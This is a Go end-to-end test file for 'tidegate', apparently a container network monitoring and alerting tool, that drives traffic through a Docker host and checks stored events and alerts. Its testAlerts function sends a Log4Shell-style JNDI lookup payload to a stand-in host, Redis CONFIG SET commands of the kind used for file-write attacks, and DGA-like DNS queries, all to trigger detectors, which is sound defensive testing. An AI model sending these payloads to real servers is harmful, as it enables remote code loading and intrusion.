@@ -1,0 +1,414 @@
+package main
+
+import (
+	"bufio"
+	"encoding/json"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+)
+
+// buildBinary makes the static binary that the whole-program tests run, once.
+var buildBinary = sync.OnceValues(func() (string, error) {
+	dir, err := os.MkdirTemp("", "tidegate-bin-")
+	if err != nil {
+		return "", err
+	}
+	bin := filepath.Join(dir, "bin", "tidegate")
+	cmd := exec.Command("go", "build", "-o", bin, ".")
+	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		return "", fmt.Errorf("go build: %w: %s", err, out)
+	}
+	return bin, nil
+})
+
+func binary(t *testing.T) string {
+	t.Helper()
+	bin, err := buildBinary()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return bin
+}
+
+// A system is tidegate on a dockerHost, as three processes of the host and a collector in a container.
+type system struct {
+	*dockerHost
+	bin, state, config string
+	procs              map[string]*exec.Cmd
+	sink               string
+}
+
+const e2eConfig = `state: %[1]s/state
+host: dock1
+cluster: e2e
+listen: 127.0.0.1:%%d
+logs:
+  root: %[1]s/root
+containers:
+  host: unix://%[1]s/docker.sock
+feeds:
+- name: e2e
+  path: %[1]s/feed.txt
+alerts:
+  alertmanager:
+  - name: am
+    url: http://127.0.0.1:9093
+  webhooks:
+  - name: hook
+    url: http://127.0.0.1:9094/
+`
+
+func newSystem(t *testing.T) *system {
+	h := newDockerHost(t)
+	s := &system{dockerHost: h, bin: binary(t), state: filepath.Join(h.dir, "state"), procs: map[string]*exec.Cmd{}, sink: filepath.Join(h.dir, "webhook.txt")}
+	t.Cleanup(s.stop)
+	h.check(os.WriteFile(filepath.Join(h.dir, "feed.txt"), []byte("bad.e2e.example,90,e2e\n192.0.2.66\n"), 0o600))
+	s.write("analyze.yaml", 9465)
+	s.write("alerts.yaml", 9466)
+	s.write("collect.yaml", 9464)
+	s.write("embedded.yaml", 9467)
+	s.startAlertPlatform()
+	s.start("embedded", nil, "run", "--only", "broker,store")
+	s.waitMetrics(9467)
+	s.start("analyze", nil, "analyze")
+	s.start("alerts", nil, "alerts")
+	s.buildImage()
+	return s
+}
+
+func (s *system) write(name string, port int) {
+	s.check(os.WriteFile(filepath.Join(s.dir, name), fmt.Appendf(nil, fmt.Sprintf(e2eConfig, s.dir), port), 0o600))
+}
+
+// startAlertPlatform starts the real Alertmanager and a receiver of webhooks in the host's namespace.
+func (s *system) startAlertPlatform() {
+	conf := filepath.Join(s.dir, "am.yml")
+	s.check(os.WriteFile(conf, []byte("route:\n  receiver: none\nreceivers:\n- name: none\n"), 0o600))
+	s.background("alertmanager", s.inside("prometheus-alertmanager", "--config.file="+conf, "--storage.path="+filepath.Join(s.dir, "am"), "--web.listen-address=127.0.0.1:9093", "--cluster.listen-address="))
+	self, err := os.Executable()
+	s.check(err)
+	hook := s.inside(self)
+	hook.Env = append(os.Environ(), "TIDEGATE_WORK="+work{Serve: "127.0.0.1:9094", Sink: s.sink}.String())
+	s.background("webhook", hook)
+	s.waitTCP("127.0.0.1", "9093")
+	s.waitTCP("127.0.0.1", "9094")
+}
+
+// start runs a process of tidegate in the host's namespace with the configuration of its name.
+func (s *system) start(name string, env []string, args ...string) {
+	s.t.Helper()
+	cmd := s.inside(s.bin, append(args, "--config", filepath.Join(s.dir, name+".yaml"), "--log-level", "info")...)
+	cmd.Env = append(os.Environ(), env...)
+	s.background(name, cmd)
+}
+
+func (s *system) background(name string, cmd *exec.Cmd) {
+	s.t.Helper()
+	out, err := os.OpenFile(filepath.Join(s.dir, name+".log"), os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o600)
+	s.check(err)
+	cmd.Stdout, cmd.Stderr = out, out
+	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
+	s.check(cmd.Start())
+	_ = out.Close()
+	s.procs[name] = cmd
+}
+
+func (s *system) kill(name string) {
+	s.t.Helper()
+	cmd := s.procs[name]
+	_ = cmd.Process.Kill()
+	_ = cmd.Wait()
+	delete(s.procs, name)
+}
+
+// waitDeath waits until a process has killed itself.
+func (s *system) waitDeath(name string) {
+	s.t.Helper()
+	done := make(chan struct{})
+	go func() { _ = s.procs[name].Wait(); close(done) }()
+	select {
+	case <-done:
+		delete(s.procs, name)
+	case <-time.After(60 * time.Second):
+		s.t.Fatalf("%s did not come to the place where it was to be killed\n%s", name, s.logTail(name))
+	}
+}
+
+func (s *system) logTail(name string) []byte {
+	b, _ := os.ReadFile(filepath.Join(s.dir, name+".log"))
+	return tail(b, 3000)
+}
+
+func (s *system) stop() {
+	if s.t.Failed() {
+		for _, name := range []string{"embedded", "analyze", "alerts"} {
+			s.t.Logf("log of %s:\n%s", name, s.logTail(name))
+		}
+		if out, err := exec.Command("docker", "-H", s.socket(), "logs", "--tail", "40", "collector").CombinedOutput(); err == nil {
+			s.t.Logf("log of collector:\n%s", out)
+		}
+	}
+	for _, name := range []string{"analyze", "alerts", "embedded", "webhook", "alertmanager"} {
+		cmd := s.procs[name]
+		if cmd == nil {
+			continue
+		}
+		_ = cmd.Process.Signal(syscall.SIGTERM)
+		done := make(chan struct{})
+		go func() { _ = cmd.Wait(); close(done) }()
+		select {
+		case <-done:
+		case <-time.After(15 * time.Second):
+			s.t.Errorf("%s did not end within 15 s of SIGTERM", name)
+			_ = cmd.Process.Kill()
+			<-done
+		}
+	}
+}
+
+// buildImage builds the collector's image as deploy/ documents it: FROM scratch, nothing but the binary.
+func (s *system) buildImage() {
+	dockerfile, err := filepath.Abs("../../deploy/Dockerfile")
+	s.check(err)
+	cmd := exec.Command("docker", "-H", s.socket(), "build", "-q", "-f", dockerfile, "-t", "tidegate", filepath.Dir(filepath.Dir(s.bin)))
+	cmd.Env = append(os.Environ(), "DOCKER_BUILDKIT=0")
+	s.must(cmd)
+}
+
+// collector starts the collector's container with the capabilities and mounts of deploy/README.md and no more.
+func (s *system) collector() {
+	s.t.Helper()
+	s.docker("run", "-d", "--name", "collector", "--network", "host", "--cap-drop", "ALL", "--cap-add", "NET_RAW", "--cap-add", "NET_ADMIN", "--read-only",
+		"-v", s.dir+"/docker.sock:"+s.dir+"/docker.sock:ro", "-v", s.dir+"/root/containers:"+s.dir+"/root/containers:ro",
+		"-v", "tidegate:"+s.state, "-v", s.dir+"/collect.yaml:/etc/tidegate/tidegate.yaml:ro", "-v", s.dir+"/feed.txt:"+s.dir+"/feed.txt:ro",
+		"tidegate", "collect", "--log-level", "info")
+	s.waitMetrics(9464)
+	s.waitMetric(9464, `tidegate_capture_workers{interface="docker0"}`, 1)
+	s.waitMetric(9464, `tidegate_capture_workers{interface="eth0"}`, 1)
+}
+
+func (s *system) metrics(port int) string {
+	out, _ := s.inside("curl", "-sf", fmt.Sprintf("http://127.0.0.1:%d/metrics", port)).Output()
+	return string(out)
+}
+
+// metric is the sum of the samples whose name and labels begin with prefix.
+func metric(text, prefix string) float64 {
+	sum := 0.0
+	for line := range strings.SplitSeq(text, "\n") {
+		if strings.HasPrefix(line, prefix) {
+			v, _ := strconv.ParseFloat(line[strings.LastIndexByte(line, ' ')+1:], 64)
+			sum += v
+		}
+	}
+	return sum
+}
+
+func (s *system) waitMetrics(port int) {
+	s.t.Helper()
+	s.eventually("metrics at "+strconv.Itoa(port), 40*time.Second, func() string {
+		if s.metrics(port) == "" {
+			return "no answer"
+		}
+		return ""
+	})
+}
+
+func (s *system) waitMetric(port int, name string, least float64) {
+	s.t.Helper()
+	s.eventually(name, 30*time.Second, func() string {
+		if v := metric(s.metrics(port), name); v < least {
+			return fmt.Sprintf("%v, want %v", v, least)
+		}
+		return ""
+	})
+}
+
+// eventually waits until f has nothing to object to.
+func (s *system) eventually(what string, within time.Duration, f func() string) {
+	s.t.Helper()
+	var objection string
+	for end := time.Now().Add(within); time.Now().Before(end); time.Sleep(200 * time.Millisecond) {
+		if objection = f(); objection == "" {
+			return
+		}
+	}
+	s.t.Errorf("%s: %s", what, objection)
+}
+
+// query asks the store as `tidegate query` does, and gives rows of columns.
+func (s *system) query(sql string) ([][]string, error) {
+	out, err := s.inside(s.bin, "query", "--config", filepath.Join(s.dir, "analyze.yaml"), "-o", "tsv", sql).CombinedOutput()
+	if err != nil {
+		return nil, fmt.Errorf("query: %w: %s", err, out)
+	}
+	var rows [][]string
+	for line := range strings.Lines(string(out)) {
+		rows = append(rows, strings.Split(strings.TrimSuffix(line, "\n"), "\t"))
+	}
+	if len(rows) == 0 {
+		return nil, fmt.Errorf("query %s: no header", sql)
+	}
+	return rows[1:], nil
+}
+
+// expect waits until a query gives these rows, each with a blank between its columns.
+func (s *system) expect(what, sql string, want ...string) {
+	s.t.Helper()
+	s.eventually(what, 60*time.Second, func() string {
+		rows, err := s.query(sql)
+		if err != nil {
+			return err.Error()
+		}
+		var got []string
+		for _, r := range rows {
+			got = append(got, strings.Join(r, " "))
+		}
+		if strings.Join(got, "\n") != strings.Join(want, "\n") {
+			return fmt.Sprintf("got\n  %s\nwant\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
+		}
+		return ""
+	})
+}
+
+// ends is who a case's transactions were between, as the store says it.
+func (s *system) ends(kind, dataset, field, like string, want string) {
+	s.t.Helper()
+	s.expect(kind, fmt.Sprintf(`SELECT count(), uniqExact("event.id"), countIf("event.partial"), arrayStringConcat(arraySort(groupUniqArray(concat("source.ip", '/', "source.container.name", ' ', "destination.ip", ':', toString("destination.port"), '/', "destination.container.name"))), ',')
+		FROM events WHERE "event.dataset" = '%s' AND "%s" LIKE '%s'`, dataset, field, like), want)
+}
+
+// TestEndToEnd is the whole job on a Docker host: every way that traffic can take, logs that never stop, alerts at the platform; and
+// in the middle of it the collector, the engine and the store are killed.
+func TestEndToEnd(t *testing.T) {
+	if testing.Short() {
+		t.Skip("it starts a Docker host")
+	}
+	s := newSystem(t)
+	s.servers()
+	s.docker("network", "create", "second")
+	for _, name := range []string{"web", "cache", "db", "dns"} {
+		s.docker("network", "connect", "second", name)
+	}
+	s.collector()
+	t.Run("ways", s.testWays)
+	t.Run("alerts", s.testAlerts)
+	t.Run("kills", s.testKills)
+	s.expect("every event is there once", `SELECT count() = uniqExact("event.id"), count() = uniqExact((_partition, _offset, _index)) FROM events`, "1 1")
+	s.expect("no alert is there twice", `SELECT count() = uniqExact(id, revision) FROM alerts`, "1")
+}
+
+func (s *system) in(t *testing.T) *system {
+	c, h := *s, *s.dockerHost
+	h.t = t
+	c.dockerHost = &h
+	return &c
+}
+
+// testWays sends traffic on every way and looks for each transaction once, between the right ends.
+func (s *system) testWays(t *testing.T) {
+	s = s.in(t)
+	const n = 40
+	at := func(name, network string) string { return s.address(name, network, "4") }
+	client := func(name string, w work, options ...string) string {
+		w.N = n
+		s.client(w, append([]string{"--name", name}, options...)...)
+		return name
+	}
+	bridge := work{Case: "bridge", HTTP: at("web", "bridge") + ":8080", Redis: at("cache", "bridge") + ":6379", DNS: at("dns", "bridge") + ":53", MySQL: at("db", "bridge") + ":3306"}
+	client("c-bridge", bridge)
+	second := work{Case: "second", HTTP: at("web", "second") + ":8080", Redis: at("cache", "second") + ":6379", DNS: at("dns", "second") + ":53", MySQL: at("db", "second") + ":3306"}
+	client("c-second", second, "--network", "second")
+	web6 := s.address("web", "bridge", "6")
+	client("c-six", work{Case: "six", HTTP: "[" + web6 + "]:8080", Redis: "[" + s.address("cache", "bridge", "6") + "]:6379"})
+	for name, addr := range map[string]string{"published": hostIP + ":9090", "routed": at("web", "bridge") + ":8080", "routed6": "[" + web6 + "]:8080"} {
+		s.must(s.visitor(work{Case: name, N: n, HTTP: addr}))
+	}
+	server := s.visitor(work{Serve: outsideIP + ":8000"})
+	s.check(server.Start())
+	s.eventually("a server outside", 10*time.Second, func() string {
+		if err := s.inside("curl", "-sf", "http://"+outsideIP+":8000/").Run(); err != nil {
+			return err.Error()
+		}
+		return ""
+	})
+	client("c-out", work{Case: "out", HTTP: outsideIP + ":8000"})
+	s.check(server.Process.Kill())
+	_ = server.Wait()
+
+	counts := fmt.Sprintf("%d %d 0 ", n, n)
+	s.checkWay("bridge", n, "c-bridge", "web", at("web", "bridge"), 8080)
+	s.checkWay("second", n, "c-second", "web", at("web", "second"), 8080)
+	s.checkWay("six", n, "c-six", "web", web6, 8080)
+	s.ends("published http", "http", "url.path", "/e2e/published/%", counts+outsideIP+"/ "+at("web", "bridge")+":8080/web")
+	s.ends("routed http", "http", "url.path", "/e2e/routed/%", counts+outsideIP+"/ "+at("web", "bridge")+":8080/web")
+	s.ends("routed http over IPv6", "http", "url.path", "/e2e/routed6/%", counts+outsideIP6+"/ "+web6+":8080/web")
+	s.expect("http through SNAT", fmt.Sprintf(`SELECT count(), uniqExact("event.id"), any("source.container.name"), any("container.name") FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/out/%%' AND "destination.ip" = '%s'`, outsideIP), fmt.Sprintf("%d %d c-out c-out", n, n))
+	s.expect("the address outside of a published port", `SELECT DISTINCT "destination.nat.ip", "destination.nat.port" FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/published/%' ORDER BY 1`, hostIP+" 9090")
+	s.expect("labels travel", `SELECT DISTINCT container_labels['app'], "container.image.name", "host.name", "orchestrator.cluster.name" FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/bridge/%'`, "shop skel dock1 e2e")
+	for _, c := range []string{"bridge", "second", "six"} {
+		s.expect("redis "+c, fmt.Sprintf(`SELECT count(), uniqExact("event.id"), any("source.container.name"), any("destination.container.name") FROM events WHERE "event.dataset" = 'redis' AND "redis.command" = 'SET' AND "redis.key" LIKE 'e2e:%s:%%'`, c), fmt.Sprintf("%d %d c-%s cache", n, n, c))
+	}
+	for _, c := range []string{"bridge", "second"} {
+		s.expect("dns "+c, fmt.Sprintf(`SELECT count(), uniqExact("event.id"), any("source.container.name"), any("destination.container.name"), any(dns_answers_data[1]) FROM events WHERE "event.dataset" = 'dns' AND "dns.question.name" LIKE 'n%%.%s.e2e.example'`, c), fmt.Sprintf("%d %d c-%s dns 192.0.2.10", n, n, c))
+		s.expect("mysql "+c, fmt.Sprintf(`SELECT count(), uniqExact("event.id"), any("source.container.name"), any("destination.container.name"), sum("mysql.rows") FROM events WHERE "event.dataset" = 'mysql' AND "mysql.command" = 'COM_QUERY' AND "mysql.query" LIKE 'SELECT ''e2e-%s-%%'`, c), fmt.Sprintf("%d %d c-%s db %d", n, n, c, n))
+	}
+	s.expect("every line of nginx", `SELECT count(), uniqExact(message) FROM events WHERE "event.dataset" = 'log' AND "container.name" = 'web' AND message LIKE '%GET /e2e/bridge/%'`, fmt.Sprintf("%d %d", n, n))
+}
+
+func (s *system) checkWay(c string, n int, from, to, addr string, port int) {
+	s.t.Helper()
+	s.expect("http "+c, fmt.Sprintf(`SELECT count(), uniqExact("event.id"), countIf("event.partial"), any("source.container.name"), any("destination.container.name"), any("container.name"), any("destination.ip"), any("destination.port"), uniqExact("source.ip") FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/%s/%%'`, c),
+		fmt.Sprintf("%d %d 0 %s %s %s %s %d 1", n, n, from, to, to, addr, port))
+}
+
+// testAlerts makes one alert of each kind and finds it at the real Alertmanager and the webhook.
+func (s *system) testAlerts(t *testing.T) {
+	s = s.in(t)
+	web, cache, dns := s.address("web", "bridge", "4"), s.address("cache", "bridge", "4"), s.address("dns", "bridge", "4")
+	s.run("--name", "intruder", "--", "bash", "-c", fmt.Sprintf(
+		"curl -s -A '${jndi:ldap://192.0.2.66/a}' http://%s:8080/x; redis-cli -h %s CONFIG SET dir /tmp; redis-cli -h %s CONFIG SET dbfilename x; true", web, cache, cache))
+	for _, name := range []string{"www.bad.e2e.example", "xjq7kvw2zt9hpb4m.e2e.example", "xjq7kvw2zt9hpb4m.example"} {
+		s.client(work{Case: "lookup", N: 1, DNS: dns + ":53", Name: name}, "--rm")
+	}
+	for _, detector := range []string{"rules", "feeds", "classifier"} {
+		s.expect("alert of "+detector, fmt.Sprintf("SELECT count() > 0 FROM alerts_now WHERE detector = '%s'", detector), "1")
+		s.eventually("alert of "+detector+" at Alertmanager", 30*time.Second, func() string {
+			out, err := s.inside("curl", "-sf", "http://127.0.0.1:9093/api/v2/alerts").Output()
+			if err != nil {
+				return err.Error()
+			}
+			var list []struct {
+				Labels, Annotations map[string]string
+			}
+			if err := json.Unmarshal(out, &list); err != nil {
+				return err.Error()
+			}
+			for _, a := range list {
+				if a.Labels["detector"] == detector {
+					return ""
+				}
+			}
+			return string(out)
+		})
+		s.eventually("alert of "+detector+" at the webhook", 30*time.Second, func() string {
+			b, _ := os.ReadFile(s.sink)
+			for lines := bufio.NewScanner(strings.NewReader(string(b))); lines.Scan(); {
+				key, body, _ := strings.Cut(lines.Text(), " ")
+				if key != "" && strings.Contains(body, `"detector":"`+detector+`"`) {
+					return ""
+				}
+			}
+			return string(b)
+		})
+	}
+}
